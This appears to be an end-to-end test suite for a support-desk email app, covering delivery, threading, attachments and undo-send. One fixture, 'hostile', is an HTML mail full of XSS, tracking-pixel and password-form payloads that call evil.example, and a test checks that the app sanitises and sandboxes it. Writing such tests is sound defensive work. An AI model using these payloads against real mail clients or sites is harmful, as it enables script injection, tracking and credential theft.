// Mail comes in, is answered, and comes back, over real SMTP both ways.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { Desk } from "../harness/desk.mjs";
import { journey, stage } from "../harness/stage.mjs";
import { until } from "../harness/until.mjs";

const set = stage();

/** An office with its owner at the desk and one customer. */
async function open(options = {}) {
  const office = await set.office();
  const desk = new Desk(await set.visit("/inbox", { as: office.owner, office, ...options }));
  await desk.page.getByRole("heading", { level: 1, name: "All open" }).waitFor();
  return { office, desk, ada: office.customer("Ada Customer") };
}

journey(set, "a mail appears by itself, and an answer leaves", async (t) => {
  const { office, desk, ada } = await open();
  const waits = [];
  const seen = async (subject) => {
    const { acceptedAt } = await ada.write({ subject, text: "Short." });
    await desk.row(subject).waitFor();
    waits.push(Math.round(performance.now() - acceptedAt));
  };
  // A busy machine may hold up one mail or another: of three in a row, two are in time.
  const inTime = () => waits.slice(-3).filter((wait) => wait < 1000).length >= 2;
  for (let i = 1; i <= 9 && !inTime(); i += 1) await seen(`Mail ${i} of a few`);
  t.diagnostic(`from 250 to the row: ${waits.join(", ")} ms`);
  assert.ok(inTime(), `mails took ${waits.join(", ")} ms to appear`);

  const { id } = await ada.write({ subject: "Which bell fits?", text: "Of 31.8 mm." });
  await desk.open("Which bell fits?");
  await desk.message("Of 31.8 mm.");
  await desk.answer("The brass one does.");
  const reply = await ada.receive();
  assert.match(reply.field("Message-ID"), /^<[^<>@\s]+@[^<>@\s]+>$/);
  assert.equal(reply.field("In-Reply-To"), id);
  assert.equal(reply.field("References"), id);
  assert.equal(reply.field("Subject"), "Re: Which bell fits?");
  assert.match(reply.field("From"), new RegExp(`Harbour Bikes.*<support@${office.domain}>`));
  assert.match(reply.text, /The brass one does\./);
  assert.match(reply.html, /The brass one does\./);
  await (await desk.message("The brass one does.")).locator("[data-delivery=sent]").waitFor();
});

journey(set, "a customer's answers find their conversation", async () => {
  const { office, desk, ada } = await open();
  await ada.write({ subject: "Which bell fits?", text: "Of 31.8 mm." });
  await desk.open("Which bell fits?");
  await desk.answer("The brass one does.");
  const reply = await ada.receive();

  const { id } = await ada.answer(reply, { text: "Is it loud?" });
  await desk.message("Is it loud?");
  await desk.answer("Not very.");
  const second = await ada.receive();
  assert.equal(second.field("In-Reply-To"), id);
  const ancestors = [reply.field("In-Reply-To"), reply.field("Message-ID"), id];
  assert.equal(second.field("References"), ancestors.join(" "));
  // Another mail program: no In-Reply-To, no References; the quoted token is left.
  await ada.answer(reply, { text: "Does it rust?", threaded: false, subject: "a new mail" });
  await desk.message("Does it rust?");
  await desk.shows("Which bell fits?");
  const [conversation] = await office.conversations("view=all_open");
  assert.equal(conversation.message_count, 5);
});

journey(set, "the reply address alone finds the conversation", async () => {
  const { office, desk } = await open();
  // We receive this address ourselves, so a +tag on it is known to arrive.
  const channel = await office.ask("POST", "/channels", {
    ...{ type: "email", name: "Direct", inbox_id: office.inbox.id },
    address: `direct${office.inbox.id}@in.harbour.example`,
  });
  const ada = office.customer("Ada Customer", channel);
  await ada.write({ subject: "Which bell fits?", text: "Of 31.8 mm." });
  await desk.open("Which bell fits?");
  await desk.answer("The brass one does.");
  const reply = await ada.receive();
  assert.match(reply.field("Reply-To"), /\+[a-z2-7]{10,26}@in\.harbour\.example/);
  await ada.write({
    ...{ to: reply.field("Reply-To"), subject: "bell", text: "A mail of its own." },
    direct: true,
  });
  await desk.message("A mail of its own.");
  await desk.shows("Which bell fits?");
});

journey(set, "files go out and come in", async () => {
  const { desk, ada } = await open();
  const plan = Buffer.from("%PDF-1.4 the plan of a bell", "latin1");
  await ada.write({
    ...{ subject: "A plan", text: "See the file." },
    attachments: [{ filename: "plan.pdf", content: plan, contentType: "application/pdf" }],
  });
  await desk.open("A plan");
  const files = desk.messages.getByRole("list", { name: "Attachments" });
  const [download] = await Promise.all([
    desk.page.waitForEvent("download"),
    files.getByRole("link", { name: /plan\.pdf/ }).click(),
  ]);
  assert.deepEqual(readFileSync(await download.path()), plan);

  await desk.write("Here is ours.");
  const chooser = desk.page.waitForEvent("filechooser");
  await desk.reply.getByRole("button", { name: "Attach files" }).click();
  await (await chooser).setFiles({
    ...{ name: "Größen.txt", mimeType: "text/plain" },
    buffer: Buffer.from("31.8"),
  });
  await desk.reply.getByRole("button", { name: "Remove Größen.txt" }).waitFor();
  await desk.send();
  const reply = await ada.receive();
  assert.equal(reply.files.length, 1);
  assert.equal(reply.files[0].body.toString(), "31.8");
});

journey(set, "what the far end refuses is shown in its words, and tried again", async () => {
  const { desk, ada } = await open();
  await ada.write({ subject: "Which bell fits?", text: "Of 31.8 mm." });
  await desk.open("Which bell fits?");
  set.relay.refuse(ada.address, 550, "5.1.1 ada has moved away");
  await desk.answer("The brass one does.");
  await (await desk.message("The brass one does.")).getByText(/ada has moved away/).waitFor();
  await desk.row(/Which bell fits\?.*Not sent/).waitFor();
  await desk.toView("Failed");
  await desk.shows("Which bell fits?");
  set.relay.accept(ada.address);
  await desk.open("Which bell fits?");
  await (await desk.message("The brass one does."))
    .getByRole("button", { name: "Try again" })
    .click();
  await ada.receive();
  await (await desk.message("The brass one does.")).locator("[data-delivery=sent]").waitFor();
  await desk.page.getByText("Every message reached its next stop.").waitFor();
});

journey(set, "what may have arrived waits for a person, who says that it did", async () => {
  const { desk, ada } = await open();
  await ada.write({ subject: "Which bell fits?", text: "Of 31.8 mm." });
  await desk.open("Which bell fits?");
  set.relay.takeInSilence(ada.address);
  await desk.answer("The brass one does.");
  await ada.receive();
  const card = await desk.message("The brass one does.");
  await card.getByText("Perhaps sent: it may have arrived").waitFor();
  await desk.toView("Failed");
  await desk.open("Which bell fits?");
  await card.getByRole("button", { name: "It did arrive" }).click();
  await card.locator("[data-delivery=sent]").waitFor();
  await desk.page.getByText("Every message reached its next stop.").waitFor();
  // Nothing was sent a second time.
  assert.equal(set.relay.waiting(ada.address), 0);
});

journey(set, "a sent message can be taken back for a while", async () => {
  const { office, desk, ada } = await open();
  await office.ask("PATCH", "/me", { preferences: { undo_seconds: 60 } });
  await desk.page.reload();
  await ada.write({ subject: "Which bell fits?", text: "Of 31.8 mm." });
  await desk.open("Which bell fits?");
  await desk.write("The brass won does.");
  await desk.send();
  await (await desk.message("The brass won does."))
    .getByRole("button", { name: "Take back" })
    .click();
  const field = desk.reply.getByRole("textbox", { name: "Message" });
  await until("the text is back", async () =>
    (await field.textContent()).includes("The brass won does."),
  );
  assert.equal(set.relay.waiting(ada.address), 0);
  // It lives on as the draft alone: there is no second place to send it from.
  await desk.messages.getByText("You took back a message").waitFor();
  assert.equal(await desk.messages.getByRole("article").count(), 1);
  await until(
    "nothing offers to take it back",
    async () => (await desk.page.getByRole("button", { name: "Take back" }).count()) === 0,
  );
  const [listed] = await office.conversations("view=all_open");
  assert.match(listed.preview, /31\.8 mm/);
  assert.equal(listed.message_count, 1);

  // Begun anew while the next one waits, both texts stay.
  await desk.send();
  await desk.message("The brass won does.");
  await desk.page.getByRole("button", { name: /^Reply to/ }).click();
  await field.pressSequentially("Newer");
  await desk.page.getByRole("button", { name: "Take back" }).first().click();
  await until("both texts are there", async () =>
    /The brass won does\.\s*Newer/.test((await field.textContent().catch(() => "")) ?? ""),
  );
  await desk.send();
  await desk.message("Newer");
});

const hostile = `
  <p onclick="window.top.location='http://evil.example/click'">Dear <b>shop</b>,</p>
  <script>fetch("http://evil.example/script"); document.title = "stolen"</script>
  <img src="http://evil.example/pixel.gif" width="1" height="1">
  <img src="http://evil.example/picture.jpg" width="300" height="200" alt="A picture">
  <img src="x" onerror="fetch('http://evil.example/onerror')">
  <div style="background:url(http://evil.example/style.gif)">a styled text</div>
  <link rel="stylesheet" href="http://evil.example/sheet.css">
  <iframe src="http://evil.example/frame"></iframe>
  <svg onload="fetch('http://evil.example/svg')"></svg>
  <form action="http://evil.example/form"><input name="password"><button>Win</button></form>
  <a href="javascript:fetch('http://evil.example/link')">a link</a>
  <meta http-equiv="refresh" content="0;url=http://evil.example/refresh">`;

journey(set, "a hostile mail runs nothing and asks nobody", async () => {
  const { desk, ada } = await open();
  await ada.write({ subject: "You won", text: "You won", html: hostile });
  await desk.open("You won");
  const mail = desk.messages.frameLocator("iframe");
  await mail.getByText("a styled text").waitFor();
  await desk.thread.getByText(/Images from elsewhere are not loaded/).waitFor();
  await mail.getByText("Dear shop").click();
  const left = await mail
    .locator("script, iframe, form, input, svg, link, meta[http-equiv]")
    .count();
  assert.equal(left, 0, "hostile elements are left");
  const attributes = await mail
    .locator("body *")
    .evaluateAll((all) => all.flatMap((one) => one.getAttributeNames().map((name) => name)));
  const harmless = ["alt", "data-remote-src", "height", "style", "width"];
  assert.deepEqual([...new Set(attributes)].sort(), harmless);
  assert.doesNotMatch(await mail.locator("body").innerHTML(), /javascript:|url\(/);
  assert.notEqual(await desk.page.title(), "stolen");

  // Were anything left of it, neither the frame nor the document's policy would let it act.
  const frame = desk.messages.locator("iframe");
  assert.doesNotMatch(await frame.getAttribute("sandbox"), /scripts|forms|top-navigation/);
  const answer = await desk.page.request.get(await frame.getAttribute("src"));
  const policy = answer.headers()["content-security-policy"];
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(policy, /script-src|https?:/);
  // The stage fails a journey whose pages ask anybody but our own server.
});

journey(set, "mail without a subject, and in every alphabet, reads well", async () => {
  const { desk, ada } = await open();
  await ada.write({ subject: "", text: "Nothing above." });
  await desk.row(/No subject/).waitFor();
  await ada.write({ subject: "Grüße 🚲 自転車 دراجة", text: "Ça va?" });
  await desk.open("Grüße 🚲 自転車 دراجة");
  await desk.message("Ça va?");
  await desk.answer("Danke schön 🚲");
  assert.match((await ada.receive()).html, /Danke sch(ö|=C3=B6|&ouml;)n/);
});
